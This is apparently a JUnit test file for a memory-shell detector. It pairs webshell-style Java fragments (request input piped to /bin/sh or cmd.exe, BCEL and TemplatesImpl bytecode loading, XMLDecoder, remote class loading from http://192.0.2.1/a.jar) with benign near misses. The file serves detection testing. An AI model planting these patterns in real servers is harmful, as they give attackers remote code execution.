package io.hivesec.engines.memshell;

import io.hivesec.engines.memshell.flow.Flow;
import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;

/** Data that reaches what runs it by way of objects that others call, tables, streams and fields; each with a near miss. */
class IndirectionTest extends FollowedWays {
    static Stream<Arguments> ways() {
        return Stream.of(
                way(
                        "a command from an address",
                        Flow.Kind.EXECUTE,
                        "@{exec}(new java.util.Scanner(F.class.getResource(\"x\") == null ? new java.net.URL(System.getProperty("
                                + "\"u\")).openStream() : null).nextLine());",
                        ""),
                way(
                        "letters by a table",
                        Flow.Kind.EXECUTE,
                        "char[] o = new char[p.length()]; for (int i = 0; i < o.length; i++) { o[i] = T[p.charAt(i)]; }"
                                + " @{exec}(new String(o));",
                        "static final char[] T = \"zyxw\".toCharArray();"),
                way(
                        "letters by an alphabet",
                        Flow.Kind.EXECUTE,
                        "byte[] o = new byte[9]; for (int i = 0; i < 9; i++) { o[i] = (byte) \"zyxw\".indexOf(p.charAt(i)); }"
                                + " @{exec}(new String(o));",
                        ""),
                way(
                        "a shell that is given a path and an environment, as if it were CGI",
                        Flow.Kind.EXECUTE,
                        "javax.servlet.http.HttpServletRequest h = (javax.servlet.http.HttpServletRequest) q; @{exec}(new"
                                + " String[] {\"sh\", \"-c\", p, h.getPathInfo()}, new String[] {\"Q=\" + h.getQueryString()},"
                                + " null);",
                        ""),
                way(
                        "a thread that holds it",
                        Flow.Kind.EXECUTE,
                        "final String x = p; new Thread(new Runnable() { public void run() { try { @{exec}(x); } catch"
                                + " (IOException e) { } } }).start();",
                        ""),
                way(
                        "a thread of its own",
                        Flow.Kind.EXECUTE,
                        "new W(p).start();",
                        "static class W extends Thread { final String x; W(String x) { this.x = x; } public void run() { try {"
                                + " @{exec}(x); } catch (IOException e) { } } }"),
                way(
                        "a class loader that is asked by name",
                        Flow.Kind.DEFINE,
                        "new L(p.getBytes()).loadClass(\"Main\");",
                        "static class L extends ClassLoader { final byte[] b; L(byte[] b) { this.b = b; } protected Class<?>"
                                + " findClass(String n) { return @{define}(n, b, 0, b.length); } }"),
                way(
                        "a loader behind its super type",
                        Flow.Kind.DEFINE,
                        "ClassLoader l = (ClassLoader) Class.forName(\"com.sun.org.apache.bcel.internal.util.ClassLoader\")"
                                + ".newInstance(); l.loadClass(\"$$BCEL$$\" + p);",
                        ""),
                way(
                        "the input of a command interpreter",
                        Flow.Kind.EXECUTE,
                        "Process x = @{exec}(\"/bin/sh\"); x.getOutputStream().write(p.getBytes());",
                        ""),
                way(
                        "the input of a command interpreter that a branch chooses",
                        Flow.Kind.EXECUTE,
                        "Process x = @{exec}(File.separatorChar == '/' ? new String(\"/bin/sh\") : new"
                                + " String(\"cmd.exe\")); x.getOutputStream().write(p.getBytes());",
                        ""),
                way(
                        "a method whose name a branch chooses",
                        Flow.Kind.EXECUTE,
                        "Runtime.class.getMethod(File.separatorChar == '/' ? \"exec\" : \"gc\", String.class)"
                                + ".invoke(Runtime.getRuntime(), p);",
                        ""),
                way(
                        "a command interpreter that is built",
                        Flow.Kind.EXECUTE,
                        "Process x = @{builder}(\"cmd.exe\").redirectErrorStream(true).start(); Writer w = new"
                                + " OutputStreamWriter(x.getOutputStream()); w.write(p);",
                        ""),
                way(
                        "a scanner of the body",
                        Flow.Kind.EXECUTE,
                        "@{exec}(new Scanner(q.getInputStream()).useDelimiter(\"A\").next());",
                        ""),
                way(
                        "bytes in a field of a template",
                        Flow.Kind.DEFINE,
                        "Object t = new Object(); java.lang.reflect.Field f = t.getClass().getDeclaredField(\"_bytecodes\");"
                                + " f.set(t, new byte[][] {p.getBytes()});",
                        ""),
                way(
                        "a class that is redefined",
                        Flow.Kind.DEFINE,
                        "new java.lang.instrument.ClassDefinition(String.class, p.getBytes());",
                        ""),
                way(
                        "classes from an address in the code",
                        Flow.Kind.DEFINE_REMOTE,
                        "new java.net.URLClassLoader(new java.net.URL[] {new java.net.URL(\"http://192.0.2.1/a.jar\")})"
                                + ".loadClass(\"A\");",
                        ""),
                way(
                        "put away in the session",
                        Flow.Kind.EXECUTE,
                        "javax.servlet.http.HttpSession h = ((javax.servlet.http.HttpServletRequest) q).getSession();"
                                + " h.setAttribute(\"k\", p); @{exec}((String) h.getAttribute(\"k\"));",
                        ""),
                way(
                        "read by a library's parser",
                        Flow.Kind.EXECUTE,
                        "@{exec}(new com.fasterxml.jackson.databind.ObjectMapper().readTree(q.getInputStream()).get(\"c\")"
                                + ".asText());",
                        ""),
                way(
                        "a file that is written and loaded",
                        Flow.Kind.EXECUTE,
                        "File f = File.createTempFile(\"a\", \"b\"); FileOutputStream o = new FileOutputStream(f);"
                                + " o.write(p.getBytes()); o.close(); System.load(f.getAbsolutePath());",
                        ""),
                way(
                        "some method of a class that only runs",
                        Flow.Kind.EXECUTE,
                        "for (java.lang.reflect.Method m : @{Runtime}.class.getMethods()) { m.invoke(null, p); }",
                        ""),
                way(
                        "code that is kept by name",
                        Flow.Kind.EXECUTE,
                        "M.get(\"a\").accept(p);",
                        "static final Map<String, java.util.function.Consumer<String>> M = new HashMap<>(); static {"
                                + " M.put(\"a\", x -> { try { @{exec}(x); } catch (IOException e) { } }); }"),
                way(
                        "code in a variable",
                        Flow.Kind.EXECUTE,
                        "java.util.function.Consumer<String> f = x -> { try { @{exec}(x); } catch (IOException e) { } };"
                                + " f.accept(p);",
                        ""),
                way(
                        "a template",
                        Flow.Kind.EVALUATE,
                        "new freemarker.template.Template(\"t\", new StringReader(p), null);",
                        ""),
                way(
                        "an answer that a client of the library's fetches",
                        Flow.Kind.RELAY_HTTP,
                        "s.getOutputStream().write(java.net.http.HttpClient.newHttpClient().send(java.net.http.HttpRequest"
                                + ".newBuilder(java.net.URI.create(p)).build(), java.net.http.HttpResponse.BodyHandlers"
                                + ".ofByteArray()).body());",
                        ""),
                way(
                        "a command with an environment",
                        Flow.Kind.EXECUTE,
                        "@{exec}(new String[] {\"sh\", \"-c\", p}, new String[] {\"Q=\" + p}, null);",
                        ""),
                way(
                        "calls written as XML",
                        Flow.Kind.EVALUATE,
                        "new java.beans.XMLDecoder(new ByteArrayInputStream(p.getBytes())).readObject();",
                        ""));
    }

    static Stream<Arguments> nearMisses() {
        return Stream.of(
                way(
                        "a command from a file beside the class",
                        Flow.Kind.EXECUTE,
                        "java.net.URL u = F.class.getResource(\"commands.txt\"); java.net.URL m = F.class.getClassLoader()"
                                + ".getResources(\"more.txt\").nextElement(); @{exec}(new java.util.Scanner(u.openStream()).nextLine() +"
                                + " new java.util.Scanner(m.openConnection().getInputStream()).nextLine());",
                        ""),
                way(
                        "the input of a program that a branch chooses",
                        Flow.Kind.EXECUTE,
                        "Process x = @{exec}(File.separatorChar == '/' ? \"sort\" : \"sort.exe\");"
                                + " x.getOutputStream().write(p.getBytes());",
                        ""),
                way(
                        "a method whose name a branch chooses",
                        Flow.Kind.EXECUTE,
                        "Runtime.class.getMethod(File.separatorChar == '/' ? \"traceMethodCalls\" : \"exit\", int.class)"
                                + ".invoke(Runtime.getRuntime(), p);",
                        ""),
                way(
                        "one of two commands",
                        Flow.Kind.EXECUTE,
                        "String[] a = {\"date\", \"uptime\"}; @{exec}(a[Integer.parseInt(p)]);",
                        ""),
                way("where a letter is", Flow.Kind.EXECUTE, "@{exec}(\"head -\" + p.indexOf('x'));", ""),
                way(
                        "a thread that holds something else",
                        Flow.Kind.EXECUTE,
                        "final String x = \"date\"; new Thread(new Runnable() { public void run() { try { @{exec}(x); } catch"
                                + " (IOException e) { } } }).start();",
                        ""),
                way(
                        "a class of the application by name",
                        Flow.Kind.DEFINE,
                        "Thread.currentThread().getContextClassLoader().loadClass(p);",
                        ""),
                way(
                        "the input of a program",
                        Flow.Kind.EXECUTE,
                        "Process x = @{exec}(\"/usr/bin/sort\"); x.getOutputStream().write(p.getBytes());",
                        ""),
                way(
                        "a scanner of a file that it names",
                        Flow.Kind.EXECUTE,
                        "@{exec}(new Scanner(new File(p)).next());",
                        ""),
                way(
                        "text in a field",
                        Flow.Kind.DEFINE,
                        "Object t = new Object(); java.lang.reflect.Field f = t.getClass().getDeclaredField(\"_name\");"
                                + " f.set(t, p);",
                        ""),
                way(
                        "a program by its path, as CGI starts it",
                        Flow.Kind.EXECUTE,
                        "javax.servlet.http.HttpServletRequest h = (javax.servlet.http.HttpServletRequest) q; @{exec}(new"
                                + " String[] {\"/srv/cgi\" + h.getPathInfo(), p}, new String[] {\"Q=\" + h.getQueryString()},"
                                + " null);",
                        ""),
                way(
                        "another thing of the session",
                        Flow.Kind.EXECUTE,
                        "javax.servlet.http.HttpSession h = ((javax.servlet.http.HttpServletRequest) q).getSession();"
                                + " h.setAttribute(\"k\", p); @{exec}((String) h.getAttribute(\"other\"));",
                        ""),
                way(
                        "what a service says of it",
                        Flow.Kind.EXECUTE,
                        "@{exec}(new com.fasterxml.jackson.databind.ObjectMapper().valueToTree(p).get(\"c\").asText());",
                        ""),
                way(
                        "a file that is written beside another that is loaded",
                        Flow.Kind.EXECUTE,
                        "File f = File.createTempFile(\"a\", \"b\"); FileOutputStream o = new FileOutputStream(f);"
                                + " o.write(p.getBytes()); o.close(); System.load(new File(\"/opt/lib.so\").getAbsolutePath());",
                        ""),
                way(
                        "some method of another class",
                        Flow.Kind.EXECUTE,
                        "for (java.lang.reflect.Method m : String.class.getMethods()) { m.invoke(p, p); }",
                        ""),
                way(
                        "classes from a file",
                        Flow.Kind.DEFINE_REMOTE,
                        "new java.net.URLClassLoader(new java.net.URL[] {new java.net.URL(\"file:/opt/a.jar\")})"
                                + ".loadClass(\"A\");",
                        ""));
    }
}
